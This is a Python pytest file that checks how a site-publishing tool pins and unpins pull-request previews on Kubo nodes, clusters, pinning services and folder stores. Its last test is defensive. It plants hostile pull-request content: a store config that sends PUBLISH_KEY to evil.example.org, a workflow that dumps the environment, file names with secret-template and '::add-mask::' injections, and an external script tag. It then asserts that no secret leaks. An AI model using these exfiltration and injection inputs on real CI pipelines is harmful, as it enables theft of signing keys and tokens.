"""Previews on a real Kubo node and a real cluster: under which name they are pinned, for how long, and what unpins."""

import json
import subprocess
import sys
import threading
import urllib.request
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from publisher.names.contenthash import encode
from publisher.stores.pin_references import MARK
from tests.ci.pull_requests import FORK, GATEWAY, HOME, NEW, NEWER, Repository, blocks_of
from tests.cli.test_cli import call
from tests.services.chain import Anvil
from tests.services.cluster import PASSWORD, USER, Cluster, connect
from tests.services.forge import Forge, Request
from tests.services.kubo import Node
from tests.services.tunnel import tunnel

SITE = {"index.html": HOME, "posts/a/index.html": b"<title>A</title><main><p>One two three.</p></main>"}
OTHER = {**SITE, "posts/a/index.html": b"<title>A</title><main><p>One two four.</p></main>"}
TODAY = datetime.now(UTC).date()
KEY = "0x" + "5e" * 32
TOKEN = "node-token-1f77c3"


def kubo_store(node: Node, label: str = "local") -> str:
    return f"[stores.{label}]\nkind = 'kubo'\napi = '{node.api}'\n"


@pytest.fixture
def on_kubo(repository: Repository, kubo: Node) -> Repository:
    repository.settings(kubo_store(kubo) + GATEWAY)
    return repository


def root_of(files: dict[str, bytes]) -> str:
    return str(blocks_of(files)[0])


def preview(repository: Repository, files: dict[str, bytes], commit: str = NEW, number: int = 12) -> str:
    """The root of a preview of a pull request, whose newest commit is `commit`."""
    branch = f"change-{number}"
    repository.forge.pull(number, commit, source=FORK, branch=branch)
    repository.finished(commit, branch=branch)
    root: str = repository.preview(files)["root"]
    return root


def pin(number: int, day: object = TODAY) -> str:
    return f"preview/Example/pr-{number}/{day}"


def test_the_newest_commit_of_a_pull_request_is_pinned_and_closing_unpins_it(
    on_kubo: Repository, kubo: Node, forge: Forge
) -> None:
    root = preview(on_kubo, SITE)
    assert kubo.pins() == {root: pin(12)}
    with urllib.request.urlopen(f"{kubo.gateway}/ipfs/{root}/posts/a/", timeout=20) as answer:
        assert b"three" in answer.read()
    kubo.call("pin/add", root, name=pin(12, "2026-01-01"))
    assert preview(on_kubo, SITE) == root  # The same root again, on a later day.
    assert kubo.pins()[root] == pin(12)
    newer = preview(on_kubo, OTHER, NEWER)
    assert kubo.pins() == {newer: pin(12)}
    forge.pull(12, NEWER, source=FORK, closed=True)
    on_kubo.event("pull_request_target", {"action": "closed", "pull_request": {"number": 12}})
    gone = on_kubo.run("close")["unpinned"]
    assert gone == [{"store": "local", "root": newer, "pull_request": 12}]
    assert kubo.pins() == {}
    assert on_kubo.run("close", "--pull-request", "12")["unpinned"] == []


def test_closing_counts_the_previews_that_stay(on_kubo: Repository, kubo: Node) -> None:
    root = preview(on_kubo, SITE)
    for number in (20, 21):
        kubo_add(kubo, f"page {number}", pin(number))
    done = on_kubo.run("close", "--pull-request", "12")
    assert (done["unpinned"], done["left"]) == ([{"store": "local", "root": root, "pull_request": 12}], 2)
    assert sorted(kubo.pins().values()) == [pin(20), pin(21)]


def test_two_pull_requests_with_one_root_need_it_both(on_kubo: Repository, kubo: Node, forge: Forge) -> None:
    root = preview(on_kubo, SITE)
    assert preview(on_kubo, SITE, NEWER, 13) == root
    on_kubo.run("close", "--pull-request", "12")
    assert root in kubo.pins()
    forge.pull(12, NEW, source=FORK, closed=True)
    forge.pull(13, NEW, source=FORK, closed=True)
    on_kubo.run("close", "--pull-request", "13")
    on_kubo.run("sweep")
    assert kubo.pins() == {}


@pytest.mark.parametrize("first", ["preview", "publish"])
def test_what_the_site_has_published_stays_when_its_preview_goes(
    on_kubo: Repository, kubo: Node, first: str, tmp_path: Path
) -> None:
    steps = ["preview", "publish"] if first == "preview" else ["publish", "preview"]
    for step in steps:
        if step == "preview":
            root = preview(on_kubo, SITE)
        else:
            car = on_kubo.car(SITE, "merged.car")
            assert call("-C", str(on_kubo.folder), "deploy", str(car), "--yes", "--skip-name") == 0
    on_kubo.run("close", "--pull-request", "12")
    on_kubo.run("sweep")
    assert root in kubo.pins()
    if first == "publish":
        assert kubo.pins() == {root: "Example"}
    else:
        assert any(name.startswith(MARK) for name in kubo.pins().values())


def test_a_sweep_unpins_closed_and_old_previews_and_nothing_else(on_kubo: Repository, kubo: Node, forge: Forge) -> None:
    root = preview(on_kubo, SITE)
    days = (TODAY - timedelta(13), TODAY - timedelta(14))
    roots = {}
    for number, (name, closed) in enumerate(
        [
            (pin(20, days[0]), False),
            (pin(21, days[1]), False),
            (pin(22), True),
            ("preview/Other/pr-23/2020-01-01", False),
            ("preview/Example/pr-24/soon", False),
            ("Example", False),
            ("preview/Example/pr-25/2020-13-01", False),
        ]
    ):
        roots[name] = kubo_add(kubo, f"page {number}", name)
        forge.pull(20 + number, NEW, closed=closed)
    dry = on_kubo.run("sweep", "--dry-run")
    assert {row["pull_request"] for row in dry["unpinned"]} == {21, 22}
    assert len(kubo.pins()) == 8
    done = on_kubo.run("sweep")
    assert done == dry
    assert done["left"] == 2
    gone = {roots[pin(21, days[1])], roots[pin(22)]}
    assert set(kubo.pins()) == {root, *roots.values()} - gone


def test_a_sweep_without_a_forge_unpins_what_is_old_and_says_so(on_kubo: Repository, kubo: Node, forge: Forge) -> None:
    kubo_add(kubo, "old", pin(30, "2026-01-01"))
    kubo_add(kubo, "new", pin(31))
    forge.fail("GET", 429, Retry_After="600")
    told = on_kubo.run("sweep", code=4)
    assert [row["pull_request"] for row in told["unpinned"]] == [30]
    assert told["error"]["who"] == "forge"
    assert list(kubo.pins().values()) == [pin(31)]


def kubo_add(kubo: Node, text: str, name: str) -> str:
    """A page that is pinned under a name, by hand."""
    path = kubo.folder.parent / "page.txt"
    path.write_text(text)
    root = kubo.command("add", "-Q", "--pin=false", str(path))
    kubo.call("pin/add", root, name=name)
    return root


def test_two_previews_at_once_leave_one_comment_and_one_pin(
    on_kubo: Repository, kubo: Node, forge: Forge, tmp_path: Path
) -> None:
    on_kubo.finished(NEW)
    car = on_kubo.car(SITE)
    command = [sys.executable, "-c", "from publisher.cli import main; main()", "ci", "preview", str(car)]
    met = threading.Barrier(2)

    def both_have_found_no_comment(request: Request) -> None:
        if request.method == "POST" and request.path.endswith("/comments"):
            met.wait(30)

    forge.before = both_have_found_no_comment
    jobs = []
    for name in ("one", "two"):
        folder = tmp_path / name
        folder.mkdir()
        (folder / "publish.toml").write_text((on_kubo.folder / "publish.toml").read_text())
        jobs.append(subprocess.Popen(command, cwd=folder, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE))
    assert [(job.communicate(timeout=60)[1], job.returncode)[1] for job in jobs] == [0, 0]
    assert len(forge.texts(12)) == 1
    assert kubo.pins()[root_of(SITE)] == pin(12)
    assert len(forge.calls("POST .*/comments")) == 2
    on_kubo.run("close", "--pull-request", "12")
    assert kubo.pins() == {}


def test_a_node_that_is_down_is_not_named_to_everybody(repository: Repository, forge: Forge) -> None:
    repository.settings("[stores.local]\nkind = 'kubo'\napi = '/ip4/127.0.0.1/tcp/1'\n" + GATEWAY)
    repository.finished(NEW)
    repository.preview(SITE, code=4)
    (status,) = forge.statuses[NEW]
    assert (status["state"], status["description"]) == ("failure", "the preview failed; the log of the run says why")
    assert "tcp/1" not in json.dumps([str(each.body) for each in forge.requests])


def test_only_the_chosen_stores_pin_previews(repository: Repository, kubo: Node) -> None:
    other = "[stores.other]\nkind = 'kubo'\napi = '/ip4/127.0.0.1/tcp/1'\n"
    repository.settings(kubo_store(kubo) + other + "[ci]\npreview-stores = ['local']\n")
    repository.finished(NEW)
    assert [store["name"] for store in repository.preview(SITE)["stores"]] == ["local"]


def test_the_comment_says_in_words_what_changes_against_the_name(
    on_kubo: Repository, kubo: Node, chain: Anvil, forge: Forge, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The job has no key, because a preview only reads the name."""
    monkeypatch.delenv("PUBLISH_KEY", raising=False)
    name = f"[names.main]\nkind = 'ens'\nname = 'demo.eth'\nrpc = ['{chain.url}']\nchain-id = 31337\n"
    name += "signer = 'env:PUBLISH_KEY'\n"
    on_kubo.settings(kubo_store(kubo) + GATEWAY + name)
    on_kubo.finished(NEW)
    on_kubo.preview(SITE)
    assert "the name shows no root on IPFS yet" in forge.texts(12)[0]
    chain.set_record("demo.eth", encode(f"ipfs://{root_of(SITE)}"))
    for path in (on_kubo.folder / ".publish").rglob("cache.sqlite*"):
        path.unlink()  # Another job has another cache: the shown root comes from the node.
    before = chain.height()
    root = preview(on_kubo, OTHER, NEWER)
    (text,) = forge.texts(12)
    assert text.startswith("<!-- publish preview demo.eth -->")
    assert root_of(SITE) in text
    assert root in text
    assert "1 page changed" in text
    assert "three" in text
    assert "four" in text
    assert forge.statuses[NEWER][-1]["description"] == "1 page changed"
    assert chain.height() == before  # No name moves.
    assert "pr-12" in json.dumps(kubo.pins())


def test_on_a_cluster_a_preview_expires_until_the_site_publishes_it(
    repository: Repository, cluster: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PUBLISH_CLUSTER_USER", USER)
    monkeypatch.setenv("PUBLISH_CLUSTER_PASSWORD", PASSWORD)
    access = "user-env = 'PUBLISH_CLUSTER_USER'\npassword-env = 'PUBLISH_CLUSTER_PASSWORD'\n"
    repository.settings(f"[stores.many]\nkind = 'cluster'\napi = '{cluster.rest}'\n{access}{GATEWAY}preview-days = 3\n")
    root = preview(repository, SITE)
    assert cluster.pins() == {root: pin(12)}
    until = datetime.fromisoformat(cluster.peers[0].call("GET", f"/allocations/{root}")["expire_at"])
    assert timedelta(days=2.9) < until - datetime.now(UTC) <= timedelta(days=3)
    newer = preview(repository, OTHER, NEWER)
    assert cluster.pins() == {newer: pin(12)}
    car = repository.car(OTHER, "merged.car")
    assert call("-C", str(repository.folder), "deploy", str(car), "--yes", "--skip-name") == 0
    assert cluster.peers[0].call("GET", f"/allocations/{newer}")["expire_at"].startswith("0001")
    repository.run("close", "--pull-request", "12")
    assert newer in cluster.pins()
    for secret in (PASSWORD, repository.forge.token):
        assert secret not in repository.everything()


def test_a_pinning_service_gives_a_preview_up_too(
    repository: Repository, kubo: Node, cluster: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    connect([kubo, *(peer.kubo for peer in cluster.peers)])
    monkeypatch.setenv("PUBLISH_PINNING_TOKEN", cluster.token())
    service = f"[stores.service]\nkind = 'pinning'\napi = '{cluster.pinning}'\ntoken-env = 'PUBLISH_PINNING_TOKEN'\n"
    repository.settings(kubo_store(kubo) + service)
    repository.finished(NEW)
    done = repository.preview(SITE)
    assert [(store["name"], store["status"]) for store in done["stores"]] == [
        ("local", "pinned"),
        ("service", "pinned"),
    ]
    assert done["root"] in cluster.pins()
    gone = repository.run("close", "--pull-request", "12")["unpinned"]
    assert [row["store"] for row in gone] == ["local", "service"]
    assert (kubo.pins(), cluster.pins()) == ({}, {})


def test_a_folder_behind_a_web_server_gives_a_preview_up_too(repository: Repository, tmp_path: Path) -> None:
    """Such a store has a pin for each name of a root, so the pin of an earlier day goes when it is too old."""
    folder = tmp_path / "www"
    repository.settings(f"[stores.files]\nkind = 's3'\nfolder = '{folder}'\n")
    root = preview(repository, SITE)
    assert any(root in path.name for path in folder.rglob("*"))
    gone = repository.run("close", "--pull-request", "12")["unpinned"]
    assert gone == [{"store": "files", "root": root, "pull_request": 12}]
    assert not [path for path in folder.rglob(f"*{root}*") if path.is_file()]


def test_a_malicious_pull_request_learns_no_secret(
    repository: Repository, kubo: Node, chain: Anvil, forge: Forge, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every output, every request to the forge and every byte to the node is searched for the secrets of the others."""
    port = int(kubo.api.rsplit("/", 1)[1])
    with tunnel(port) as store, tunnel(int(chain.url.rsplit(":", 1)[1])) as end_point:
        secrets = {
            "PUBLISH_KEY": KEY,
            "PUBLISH_KUBO_TOKEN": TOKEN,
            "PUBLISH_RPC": f"http://127.0.0.1:{end_point.port}/v3/rpc-key-90ab",
        }
        for name, value in secrets.items():
            monkeypatch.setenv(name, value)
        repository.settings(
            f"[stores.local]\nkind = 'kubo'\napi = '/ip4/127.0.0.1/tcp/{store.port}'\n"
            f"token-env = 'PUBLISH_KUBO_TOKEN'\n{GATEWAY}[names.main]\nkind = 'ens'\nname = 'demo.eth'\n"
            "rpc = ['env:PUBLISH_RPC']\nchain-id = 31337\nsigner = 'env:PUBLISH_KEY'\n"
        )
        evil = f"{KEY} $PUBLISH_KEY ${{{{ secrets.PUBLISH_KEY }}}} {{{{ env.PUBLISH_KEY }}}}".replace(KEY, "key")
        files = {
            **SITE,
            "publish.toml": b"[stores.evil]\nkind='kubo'\napi='http://evil.example.org'\ntoken-env='PUBLISH_KEY'\n",
            ".github/workflows/publish.yml": b"on: push\njobs: {a: {steps: [{run: env}]}}\n",
            f"{evil}.html": f"<title>{evil}</title><main>{evil}</main>".encode(),
            "::add-mask::x/index.html": b"<script src=/evil.js></script>",
        }
        repository.finished(NEW)
        repository.preview(files)
        repository.run("preview", str(repository.write(b"garbage")), code=2)
        repository.preview({**files, "leak.txt": TOKEN.encode()}, code=3)
        repository.run("close", "--pull-request", "12")
    assert TOKEN.encode() in store.sent  # The node gets its own token, so the tunnel records what is sent.
    assert b"rpc-key-90ab" in end_point.sent
    own = {"node": (store.sent, TOKEN), "chain": (end_point.sent, "rpc-key-90ab")}
    for who, (sent, allowed) in own.items():
        for secret in (KEY, KEY[2:], TOKEN, forge.token, "rpc-key-90ab"):
            assert secret == allowed or secret.encode() not in sent, f"{secret} was sent to the {who}"
    everything = repository.everything()
    for secret in (KEY, KEY[2:], TOKEN, forge.token, "rpc-key-90ab"):
        assert secret not in everything
    assert "evil.example.org" not in everything
